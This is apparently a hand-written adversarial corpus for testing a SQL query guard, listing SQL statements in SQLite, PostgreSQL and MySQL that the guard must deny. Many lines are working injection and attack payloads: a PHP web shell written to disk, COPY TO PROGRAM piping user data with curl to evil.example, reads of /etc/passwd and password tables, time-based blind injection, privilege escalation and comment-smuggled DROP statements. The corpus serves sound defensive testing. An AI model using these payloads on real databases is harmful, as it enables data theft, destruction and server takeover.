-- Adversarial corpus for core.guard: every line must be DENIED in its dialect.
-- Format: <dialect><TAB><one SQL statement>. Lines starting with "-- " and blank lines are notes.
-- Written by hand for Askbase; the test adds generated obfuscations (case, comments, control chars).
-- Every line is checked under the corpus policy of tests/test_guard.py (CORPUS_POLICY): table payroll
-- denied, column members.tax_id denied, members' columns are (id, name, email, tax_id).

-- DML at the top level and in every disguise
sqlite	INSERT INTO users (name) VALUES ('x')
sqlite	insert or replace into users values (1, 'x')
sqlite	REPLACE INTO users VALUES (1, 'x')
sqlite	UPDATE users SET admin = 1
sqlite	DELETE FROM users
sqlite	delete from users where 1=1;
sqlite	WITH x AS (SELECT 1) DELETE FROM users
sqlite	WITH x AS (SELECT 1) UPDATE users SET name = 'p'
sqlite	INSERT INTO users SELECT * FROM users
sqlite	INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2
sqlite	DELETE FROM users RETURNING *
postgres	INSERT INTO users VALUES (1) RETURNING *
postgres	UPDATE users SET pw = 'x' WHERE id = 1 RETURNING pw
postgres	DELETE FROM orders USING users WHERE orders.uid = users.id
postgres	WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x
postgres	WITH x AS (UPDATE users SET admin = true RETURNING *) SELECT count(*) FROM x
postgres	WITH x AS (INSERT INTO audit VALUES (1) RETURNING *) SELECT 1
postgres	with a as (select 1), b as (delete from users returning id) select * from a
postgres	SELECT * FROM (WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d) AS s
postgres	MERGE INTO users u USING staging s ON u.id = s.id WHEN MATCHED THEN DELETE
postgres	INSERT INTO users SELECT * FROM users ON CONFLICT DO NOTHING
postgres	TRUNCATE users
postgres	TRUNCATE TABLE users CASCADE
mysql	INSERT INTO users VALUES (1, 'x')
mysql	INSERT users SET name = 'x'
mysql	REPLACE INTO users VALUES (1)
mysql	UPDATE users SET admin = 1 WHERE 1 = 1
mysql	DELETE FROM users
mysql	DELETE users, orders FROM users JOIN orders ON users.id = orders.uid
mysql	INSERT INTO users VALUES (1) ON DUPLICATE KEY UPDATE admin = 1
mysql	TRUNCATE users
mysql	WITH x AS (SELECT 1) DELETE FROM users
mysql	UPDATE users u JOIN roles r ON u.rid = r.id SET u.admin = 1

-- DDL
sqlite	DROP TABLE users
sqlite	drop table if exists users
sqlite	CREATE TABLE x AS SELECT * FROM users
sqlite	CREATE TEMP TABLE x (a int)
sqlite	CREATE VIEW v AS SELECT * FROM users
sqlite	CREATE TRIGGER t AFTER INSERT ON users BEGIN DELETE FROM users; END
sqlite	CREATE INDEX i ON users (name)
sqlite	ALTER TABLE users ADD COLUMN x int
sqlite	ALTER TABLE users RENAME TO old_users
sqlite	DROP VIEW v
postgres	DROP TABLE users CASCADE
postgres	CREATE TABLE x AS SELECT * FROM users
postgres	CREATE TABLE x (LIKE users)
postgres	CREATE UNLOGGED TABLE x AS SELECT 1
postgres	CREATE MATERIALIZED VIEW mv AS SELECT * FROM users
postgres	REFRESH MATERIALIZED VIEW mv
postgres	ALTER TABLE users OWNER TO attacker
postgres	ALTER SYSTEM SET statement_timeout = 0
postgres	CREATE EXTENSION dblink
postgres	CREATE FUNCTION f() RETURNS int AS $$ DELETE FROM users; SELECT 1 $$ LANGUAGE sql
postgres	CREATE OR REPLACE FUNCTION lower(text) RETURNS text AS 'select 1' LANGUAGE sql
postgres	COMMENT ON TABLE users IS 'owned'
postgres	CREATE ROLE attacker SUPERUSER
postgres	DROP SCHEMA public CASCADE
postgres	CREATE SCHEMA evil
postgres	CLUSTER users
postgres	REINDEX TABLE users
mysql	DROP TABLE users
mysql	DROP DATABASE test
mysql	CREATE TABLE x SELECT * FROM users
mysql	CREATE TABLE x AS SELECT * FROM users
mysql	ALTER TABLE users ADD COLUMN x int
mysql	RENAME TABLE users TO old_users
mysql	CREATE USER evil IDENTIFIED BY 'x'
mysql	CREATE PROCEDURE p() BEGIN DELETE FROM users; END
mysql	CREATE EVENT e ON SCHEDULE EVERY 1 SECOND DO DELETE FROM users
mysql	DROP USER root

-- SELECT INTO and locking clauses
postgres	SELECT * INTO newtable FROM users
postgres	SELECT * INTO TEMP t FROM users
postgres	SELECT id INTO UNLOGGED t2 FROM users
postgres	SELECT * FROM users FOR UPDATE
postgres	SELECT * FROM users FOR NO KEY UPDATE
postgres	SELECT * FROM users FOR SHARE
postgres	SELECT * FROM users FOR KEY SHARE
postgres	SELECT * FROM users FOR UPDATE NOWAIT
postgres	SELECT * FROM users FOR UPDATE SKIP LOCKED
postgres	SELECT * FROM users u JOIN orders o ON o.uid = u.id FOR UPDATE OF u
postgres	SELECT * FROM (SELECT * FROM users FOR UPDATE) s
mysql	SELECT * FROM users INTO OUTFILE '/tmp/users.txt'
mysql	SELECT * INTO OUTFILE '/var/lib/mysql-files/x' FROM users
mysql	SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '/var/www/shell.php'
mysql	SELECT name INTO @v FROM users LIMIT 1
mysql	SELECT * FROM users FOR UPDATE
mysql	SELECT * FROM users LOCK IN SHARE MODE
mysql	SELECT * FROM users FOR SHARE
mysql	SELECT * FROM users FOR UPDATE SKIP LOCKED
sqlite	SELECT * INTO newtable FROM users

-- several statements
sqlite	SELECT 1; DROP TABLE users
sqlite	SELECT * FROM users; DELETE FROM users
sqlite	SELECT 1;DROP TABLE users--
sqlite	SELECT 1 /* x */; DELETE FROM users
sqlite	SELECT 1; SELECT 2
sqlite	SELECT 'a;b'; DELETE FROM users
sqlite	SELECT 1; ATTACH DATABASE '/tmp/x.db' AS x
postgres	SELECT 1; DROP TABLE users
postgres	SELECT 1; COMMIT; DROP TABLE users
postgres	SELECT $$;$$; DELETE FROM users
postgres	SELECT 1; SET statement_timeout = 0
postgres	SELECT 'it''s'; TRUNCATE users
mysql	SELECT 1; DROP TABLE users
mysql	SELECT 1 ; UPDATE users SET admin = 1
mysql	SELECT "a;b"; DELETE FROM users
mysql	SELECT 1; SET GLOBAL general_log = 1

-- transaction and session commands
sqlite	BEGIN
sqlite	BEGIN IMMEDIATE TRANSACTION
sqlite	COMMIT
sqlite	ROLLBACK
sqlite	SAVEPOINT s
sqlite	RELEASE s
sqlite	PRAGMA query_only = 0
sqlite	PRAGMA writable_schema = ON
sqlite	pragma table_info(users)
sqlite	PRAGMA main.journal_mode = DELETE
sqlite	ATTACH DATABASE '/tmp/evil.db' AS evil
sqlite	ATTACH 'file:/etc/passwd?mode=ro' AS p
sqlite	DETACH DATABASE evil
sqlite	VACUUM
sqlite	VACUUM INTO '/tmp/copy.db'
sqlite	ANALYZE
sqlite	REINDEX
sqlite	EXPLAIN SELECT 1
sqlite	EXPLAIN QUERY PLAN SELECT * FROM users
postgres	BEGIN
postgres	START TRANSACTION READ WRITE
postgres	COMMIT
postgres	END
postgres	ABORT
postgres	ROLLBACK
postgres	SAVEPOINT s
postgres	RELEASE SAVEPOINT s
postgres	SET statement_timeout = 0
postgres	SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
postgres	SET transaction_read_only = off
postgres	SET ROLE postgres
postgres	SET SESSION AUTHORIZATION postgres
postgres	RESET ALL
postgres	SHOW search_path
postgres	SHOW ALL
postgres	LISTEN channel
postgres	NOTIFY channel, 'x'
postgres	UNLISTEN *
postgres	DISCARD ALL
postgres	CHECKPOINT
postgres	VACUUM FULL users
postgres	ANALYZE users
postgres	LOCK TABLE users IN ACCESS EXCLUSIVE MODE
postgres	CALL delete_everything()
postgres	DO $$ BEGIN DELETE FROM users; END $$
postgres	DO 'BEGIN PERFORM pg_sleep(10); END'
postgres	PREPARE p AS DELETE FROM users
postgres	EXECUTE p
postgres	DEALLOCATE ALL
postgres	DECLARE c CURSOR FOR SELECT * FROM users
postgres	FETCH ALL FROM c
postgres	EXPLAIN ANALYZE DELETE FROM users
postgres	EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET admin = true
postgres	EXPLAIN SELECT * FROM users
postgres	COPY users TO '/tmp/users.csv'
postgres	COPY users FROM '/etc/passwd'
postgres	COPY (SELECT * FROM users) TO PROGRAM 'curl http://evil.example/ -d @-'
postgres	COPY users TO STDOUT
postgres	GRANT ALL ON users TO PUBLIC
postgres	REVOKE SELECT ON users FROM app
postgres	LOAD 'auto_explain'
postgres	SECURITY LABEL ON TABLE users IS 'x'
postgres	IMPORT FOREIGN SCHEMA public FROM SERVER s INTO evil
postgres	VALUES (1), (2)
postgres	TABLE users FOR UPDATE
mysql	START TRANSACTION
mysql	BEGIN
mysql	COMMIT
mysql	ROLLBACK
mysql	SET autocommit = 0
mysql	SET @@session.max_execution_time = 0
mysql	SET GLOBAL local_infile = 1
mysql	SET SESSION TRANSACTION READ WRITE
mysql	SET NAMES utf8
mysql	USE mysql
mysql	SHOW TABLES
mysql	SHOW DATABASES
mysql	SHOW GRANTS
mysql	SHOW PROCESSLIST
mysql	SHOW VARIABLES LIKE 'secure_file_priv'
mysql	DESCRIBE users
mysql	DESC users
mysql	EXPLAIN SELECT * FROM users
mysql	EXPLAIN ANALYZE SELECT * FROM users
mysql	CALL sp_delete()
mysql	DO SLEEP(10)
mysql	HANDLER users OPEN
mysql	HANDLER users READ FIRST
mysql	LOAD DATA INFILE '/etc/passwd' INTO TABLE users
mysql	LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE users
mysql	LOAD XML INFILE '/tmp/x.xml' INTO TABLE users
mysql	PREPARE s FROM 'DROP TABLE users'
mysql	PREPARE s FROM CONCAT('DR', 'OP TABLE users')
mysql	EXECUTE s
mysql	DEALLOCATE PREPARE s
mysql	LOCK TABLES users WRITE
mysql	UNLOCK TABLES
mysql	FLUSH PRIVILEGES
mysql	FLUSH TABLES WITH READ LOCK
mysql	KILL 1
mysql	KILL QUERY 1
mysql	GRANT ALL ON *.* TO 'evil'@'%'
mysql	XA START 'x'
mysql	INSTALL PLUGIN evil SONAME 'evil.so'
mysql	ANALYZE TABLE users
mysql	OPTIMIZE TABLE users
mysql	CHECK TABLE users
mysql	RESET MASTER
mysql	PURGE BINARY LOGS BEFORE NOW()
mysql	CHANGE MASTER TO MASTER_HOST = 'evil'
mysql	SELECT * FROM users PROCEDURE ANALYSE()

-- functions that sleep or burn CPU, hidden anywhere
postgres	SELECT pg_sleep(10)
postgres	SELECT PG_SLEEP(10)
postgres	SELECT "pg_sleep"(10)
postgres	SELECT pg_catalog.pg_sleep(10)
postgres	SELECT pg_sleep_for('1 hour')
postgres	SELECT pg_sleep_until('2100-01-01')
postgres	SELECT * FROM users WHERE id = 1 AND 1 = (SELECT CASE WHEN 1 = 1 THEN pg_sleep(5)::text::int ELSE 1 END)
postgres	SELECT name FROM users ORDER BY (SELECT pg_sleep(5))
postgres	SELECT name FROM users ORDER BY pg_sleep(1)
postgres	SELECT name FROM users GROUP BY name HAVING count(pg_sleep(1)) > 0
postgres	SELECT * FROM users u, LATERAL (SELECT pg_sleep(1)) s
postgres	SELECT * FROM users WHERE EXISTS (SELECT pg_sleep(3))
postgres	SELECT CASE WHEN (SELECT count(*) FROM users) > 0 THEN pg_sleep(5) END
postgres	WITH s AS (SELECT pg_sleep(5)) SELECT * FROM s
postgres	SELECT * FROM users UNION ALL SELECT NULL, pg_sleep(5)::text
postgres	SELECT coalesce(NULL, pg_sleep(5))
postgres	SELECT * FROM unnest(ARRAY[pg_sleep(1)])
postgres	SELECT string_agg(pg_sleep(0.1)::text, ',') FROM generate_series(1, 100)
postgres	SELECT 1 FROM users WHERE name LIKE (SELECT pg_sleep(1)::text)
mysql	SELECT SLEEP(10)
mysql	SELECT sleep(10) FROM users
mysql	SELECT * FROM users WHERE id = 1 AND (SELECT 1 FROM (SELECT SLEEP(5)) x)
mysql	SELECT * FROM users WHERE id = 1 AND IF(1 = 1, SLEEP(5), 0)
mysql	SELECT BENCHMARK(100000000, MD5('x'))
mysql	SELECT * FROM users ORDER BY (SELECT SLEEP(1))
mysql	SELECT `sleep`(5)
mysql	SELECT 1 --1, sleep(10)
mysql	SELECT GET_LOCK('x', 100)
mysql	SELECT RELEASE_LOCK('x')
mysql	SELECT MASTER_POS_WAIT('log', 1, 100)
mysql	SELECT * FROM users WHERE name = '' OR SLEEP(5) = 0
sqlite	SELECT sleep(10)
sqlite	SELECT zeroblob(1000000000)
sqlite	SELECT randomblob(1000000000)
sqlite	SELECT * FROM users WHERE id IN (SELECT sleep(1))

-- files, the network, other databases, code
postgres	SELECT pg_read_file('/etc/passwd')
postgres	SELECT pg_read_file('pg_hba.conf', 0, 200)
postgres	SELECT pg_read_binary_file('/etc/passwd')
postgres	SELECT convert_from(pg_read_binary_file('/etc/passwd'), 'utf8')
postgres	SELECT * FROM pg_ls_dir('.')
postgres	SELECT pg_ls_dir('/')
postgres	SELECT pg_stat_file('/etc/passwd')
postgres	SELECT * FROM pg_ls_logdir()
postgres	SELECT lo_import('/etc/passwd')
postgres	SELECT lo_export(16384, '/tmp/x')
postgres	SELECT lo_get(16384)
postgres	SELECT lo_from_bytea(0, 'x')
postgres	SELECT dblink('host=evil.example dbname=x', 'SELECT 1')
postgres	SELECT * FROM dblink('dbname=other', 'SELECT secret FROM vault') AS t(secret text)
postgres	SELECT dblink_exec('dbname=test', 'DROP TABLE users')
postgres	SELECT dblink_connect('c', 'host=evil.example')
postgres	SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')
postgres	SELECT query_to_xml('SELECT pg_sleep' || '(5)', true, true, '')
postgres	SELECT database_to_xml(true, true, '')
postgres	SELECT table_to_xml('users', true, true, '')
postgres	SELECT schema_to_xml('public', true, true, '')
postgres	SELECT cursor_to_xml('c', 10, true, true, '')
postgres	SELECT pg_catalog.lower(name) FROM users
postgres	SELECT public.my_function(1)
postgres	SELECT my_udf(id) FROM users
postgres	SELECT xmlparse(document '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>')
postgres	SELECT * FROM other_db.public.users
postgres	SELECT * FROM "other"."public"."users"
mysql	SELECT LOAD_FILE('/etc/passwd')
mysql	SELECT load_file(0x2f6574632f706173737764)
mysql	SELECT 1 UNION SELECT LOAD_FILE('/etc/shadow')
mysql	SELECT sys_exec('id')
mysql	SELECT sys_eval('id')
mysql	SELECT UPDATEXML(1, CONCAT(0x7e, (SELECT password FROM users LIMIT 1)), 1)
mysql	SELECT EXTRACTVALUE(1, CONCAT(0x7e, version()))
mysql	SELECT * FROM otherdb.users
mysql	SELECT * FROM `otherdb`.`users`
mysql	SELECT * FROM users JOIN otherdb.salaries s ON s.uid = users.id
sqlite	SELECT load_extension('/tmp/evil.so')
sqlite	SELECT load_extension('mod_spatialite', 'init')
sqlite	SELECT readfile('/etc/passwd')
sqlite	SELECT writefile('/tmp/x', 'data')
sqlite	SELECT edit('text', 'vi')
sqlite	SELECT fts3_tokenizer('simple', x'4141414141414141')
sqlite	SELECT * FROM fsdir('/')
sqlite	SELECT * FROM zipfile('/tmp/x.zip')
sqlite	SELECT * FROM evil.users
sqlite	SELECT * FROM temp.users
sqlite	SELECT * FROM pragma_table_info('users')
sqlite	SELECT * FROM pragma_database_list
sqlite	SELECT name FROM pragma_function_list()

-- server, session and catalog information
postgres	SELECT current_setting('data_directory')
postgres	SELECT current_setting('is_superuser')
postgres	SELECT set_config('statement_timeout', '0', false)
postgres	SELECT set_config('default_transaction_read_only', 'off', false)
postgres	SELECT version()
postgres	SELECT current_user
postgres	SELECT session_user
postgres	SELECT user
postgres	SELECT current_role
postgres	SELECT current_database()
postgres	SELECT inet_server_addr()
postgres	SELECT pg_backend_pid()
postgres	SELECT pg_terminate_backend(pid) FROM pg_stat_activity
postgres	SELECT pg_cancel_backend(1234)
postgres	SELECT pg_reload_conf()
postgres	SELECT txid_current()
postgres	SELECT nextval('users_id_seq')
postgres	SELECT setval('users_id_seq', 1)
postgres	SELECT pg_advisory_lock(1)
postgres	SELECT pg_notify('c', 'x')
postgres	SELECT * FROM pg_shadow
postgres	SELECT usename, passwd FROM pg_catalog.pg_shadow
postgres	SELECT rolname, rolpassword FROM pg_authid
postgres	SELECT * FROM pg_catalog.pg_authid
postgres	SELECT * FROM pg_user
postgres	SELECT * FROM pg_roles
postgres	SELECT query FROM pg_stat_activity
postgres	SELECT * FROM pg_settings
postgres	SELECT * FROM pg_hba_file_rules
postgres	SELECT * FROM pg_largeobject
postgres	SELECT * FROM information_schema.tables
postgres	SELECT * FROM "information_schema"."columns"
postgres	SELECT id FROM users UNION SELECT usesysid FROM pg_user
postgres	SELECT * FROM users WHERE id IN (SELECT oid FROM pg_class)
mysql	SELECT @@version
mysql	SELECT @@datadir
mysql	SELECT @@global.secure_file_priv
mysql	SELECT @a := 1
mysql	SELECT @x
mysql	SELECT version()
mysql	SELECT user()
mysql	SELECT current_user()
mysql	SELECT system_user()
mysql	SELECT database()
mysql	SELECT schema()
mysql	SELECT connection_id()
mysql	SELECT last_insert_id(5)
mysql	SELECT * FROM mysql.user
mysql	SELECT user, authentication_string FROM mysql.user
mysql	SELECT * FROM information_schema.processlist
mysql	SELECT * FROM information_schema.tables
mysql	SELECT * FROM performance_schema.threads
mysql	SELECT * FROM sys.session
mysql	SELECT id FROM users UNION SELECT host FROM mysql.user
sqlite	SELECT * FROM sqlite_master
sqlite	SELECT sql FROM sqlite_schema
sqlite	SELECT * FROM sqlite_temp_master
sqlite	SELECT * FROM main.sqlite_master
sqlite	SELECT * FROM sqlite_dbpage
sqlite	SELECT sqlite_version()
sqlite	SELECT sqlite_source_id()
sqlite	SELECT changes()
sqlite	SELECT total_changes()
sqlite	SELECT last_insert_rowid()
sqlite	SELECT sqlite_compileoption_used('ENABLE_LOAD_EXTENSION')

-- comments, hints and quoting tricks
mysql	/*!50000 DROP TABLE users */
mysql	/*!DELETE FROM users*/
mysql	SELECT 1 /*!50000 , SLEEP(10) */
mysql	SELECT 1 /*!, (SELECT password FROM users) */
mysql	SELECT /*!32302 1/0, */ 1 FROM users
mysql	SELECT 1 /*M!100000 , SLEEP(5) */
mysql	SELECT /*+ SET_VAR(max_execution_time=0) */ * FROM users
mysql	SELECT /*+ MAX_EXECUTION_TIME(0) */ * FROM users
mysql	SELECT 1 # ; DROP TABLE users
mysql	SELECT 1 -- ; DROP TABLE users
mysql	SELECT 'a\'; DROP TABLE users; -- '
mysql	SELECT 'a\', SLEEP(10) -- '
mysql	SELECT "a\", SLEEP(10) -- "
mysql	SELECT * FROM users WHERE name = 'x\' OR SLEEP(5) -- '
sqlite	SELECT 1 /* ; */ ; DELETE FROM users
sqlite	SELECT 1 /* /* */ ; DELETE FROM users /* */
sqlite	SELECT 'a\'; DELETE FROM users; --'
sqlite	SELECT 1 -- ; DROP TABLE users
sqlite	SELECT 1 /*!50000 , load_extension('x') */
postgres	SELECT 1 /* /* */ ; DROP TABLE users; */
postgres	SELECT 'a\', pg_sleep(10) --'
postgres	SELECT 'a\'', pg_sleep(10) --'
postgres	SELECT 'x\'; DROP TABLE users; --'
postgres	SELECT $q$ $q$; DROP TABLE users
postgres	SELECT $a$;$a$, pg_sleep(1)
postgres	SELECT /*+ SeqScan(users) */ * FROM users
postgres	SELECT 1 -- ; DELETE FROM users
postgres	SELECT E'\''; DELETE FROM users; --'
postgres	SELECT U&'\0027'; DELETE FROM users
mysql	SEL/**/ECT * FROM users; DROP TABLE users
mysql	SELECT 1；DROP TABLE users
postgres	SELECT 1；DROP TABLE users
postgres	SELECT 1​; DROP TABLE users
sqlite	SELECT 1 ‮; DROP TABLE users
mysql	SELECT 'a\' INTO OUTFILE '/tmp/x' -- '
mysql	SELECT '\'' UNION SELECT LOAD_FILE('/etc/passwd') -- '
postgres	SELECT * FROM myschema.unnest(ARRAY[1])
postgres	SELECT 1 OPERATOR(evil.+) 2
postgres	SELECT 'users'::regclass
mysql	SELECT * FROM users WHERE id = 1 /*!UNION*/ /*!SELECT*/ password FROM admins
sqlite	SELECT * FROM pragma_table_list
sqlite	SELECT * FROM dbstat
postgres	SELECT * FROM pg_catalog.generate_series(1, 3)

-- unbounded recursion
postgres	WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
postgres	WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n * 2 FROM r) SELECT max(n) FROM r
sqlite	WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
sqlite	WITH RECURSIVE r(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM r) SELECT sum(n) FROM r
mysql	WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
mysql	WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT r.n + 1 FROM r, r AS r2) SELECT count(*) FROM r

-- denied columns reached through renames, aliases that differ only in case, and whole rows
postgres	SELECT x.t FROM members AS x(a, b, c, t)
postgres	SELECT t FROM members x(a, b, c, t)
postgres	SELECT o.id, x.t FROM orders o JOIN members AS x(a, b, c, t) ON x.a = o.member_id
postgres	SELECT x.n FROM orders o, LATERAL (SELECT m.t AS n FROM members AS m(a, b, c, t) WHERE m.a = o.member_id) x
postgres	SELECT a FROM orders JOIN members AS x(a, b, c, t) USING (t)
postgres	SELECT count(*) FROM members AS x(a, b, c, t) WHERE x.t LIKE '1%'
postgres	SELECT c.tax_id FROM members c JOIN orders "C" ON "C".member_id = c.id
postgres	SELECT "C".tax_id FROM members "C", orders c WHERE c.member_id = "C".id
postgres	SELECT "c".tax_id FROM members c CROSS JOIN orders "C"
postgres	SELECT "X".* FROM members "X" JOIN orders x ON x.member_id = "X".id
postgres	SELECT c.row_to_json FROM members c
postgres	SELECT c.to_jsonb FROM members AS c
postgres	SELECT c.concat FROM members c
postgres	SELECT c.json_agg FROM members c
postgres	SELECT c.record_out FROM members c
postgres	SELECT (c).tax_id FROM members c
postgres	SELECT (c).* FROM members c
postgres	SELECT row_to_json("X") FROM members "X"
postgres	SELECT to_jsonb(x) FROM members AS x(a, b, c, t)
postgres	SELECT jsonb_populate_record(NULL::payroll, '{}')
postgres	SELECT json_populate_recordset(NULL::public.payroll, '[]')
postgres	SELECT (NULL::members).tax_id
postgres	SELECT CAST(NULL AS members)
postgres	SELECT '{}'::payroll[]
postgres	WITH w(a, b, c, t) AS (SELECT * FROM members) SELECT t FROM w
mysql	SELECT c.tax_id FROM members c JOIN orders C ON C.member_id = c.id
mysql	SELECT C.tax_id FROM members C, orders c WHERE c.member_id = C.id
mysql	SELECT c.tax_id FROM orders C JOIN members c ON C.member_id = c.id
mysql	SELECT x.t FROM members AS x(a, b, c, t)
mysql	WITH w(a, b, c, t) AS (SELECT * FROM members) SELECT t FROM w
mysql	WITH w(a, b) AS (SELECT id, tax_id FROM members) SELECT b FROM w
mysql	WITH PAYROLL AS (SELECT 1 AS x) SELECT * FROM payroll
sqlite	SELECT c.tax_id FROM members c, orders C WHERE C.member_id = c.id
sqlite	SELECT C.tax_id FROM orders c JOIN members C ON c.member_id = C.id
sqlite	SELECT x.t FROM members AS x(a, b, c, t)
sqlite	WITH w(a, b, c, t) AS (SELECT * FROM members) SELECT t FROM w
